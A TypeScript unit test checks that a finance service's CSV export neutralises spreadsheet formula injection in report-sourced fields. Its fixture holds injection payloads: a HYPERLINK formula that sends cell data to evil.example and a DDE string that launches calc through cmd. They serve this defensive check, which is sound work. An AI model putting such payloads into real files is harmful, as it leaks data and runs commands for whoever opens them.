import { parseCsv } from '@upm/contracts';
import { Metrics } from '@upm/shared-observability';
import type { DataSource } from 'typeorm';
import type { LedgerStore } from '../ledger/ledger.store';
import { FinanceService } from './finance.service';

describe('finance CSV export', () => {
  // a SETTLEMENT transaction of an item the ledger never heard of is booked to the row's referenceMerchantId, and one
  // written from a report carries the report's transactionId: both are Alipay's file as written
  it('hands a spreadsheet no formula from a report-sourced value, and keeps its amounts numbers', async () => {
    const entry = {
      id: 'ltx_1', kind: 'SETTLEMENT', status: 'POSTED', business_day: '2026-11-28', occurred_at: new Date('2026-11-28T00:00:00Z'), posted_at: null,
      merchant_id: '=HYPERLINK("http://evil.example/?"&A1,"open")', payment_id: null, refund_id: null, alipay_transaction_id: "@SUM(1+1)*cmd|' /C calc'!A0",
      settlement_batch_id: 'B1', account_code: 'SETTLED_FUNDS:=HYPERLINK("http://evil.example/?"&A1,"open"):HKD', account_type: 'SETTLED_FUNDS', currency: 'HKD',
      direction: 'DEBIT', amount: '1240',
    };
    const dataSource = { query: async () => [entry] } as unknown as DataSource;
    const csv = await new FinanceService(dataSource, {} as LedgerStore, new Metrics('finance-export')).exportCsv({ batchId: 'B1' });
    const [header, cells] = parseCsv(csv);
    const cell = (column: string) => cells[header.indexOf(column)];
    expect(cell('merchantId')).toBe(`'${entry.merchant_id}`);
    expect(cell('alipayTransactionId')).toBe(`'${entry.alipay_transaction_id}`);
    expect(cell('account')).toBe(entry.account_code);
    expect([cell('debit'), cell('credit')]).toEqual(['12.40', '']);
    // OWASP CSV injection: no cell starts with = + - @, a tab or a CR
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
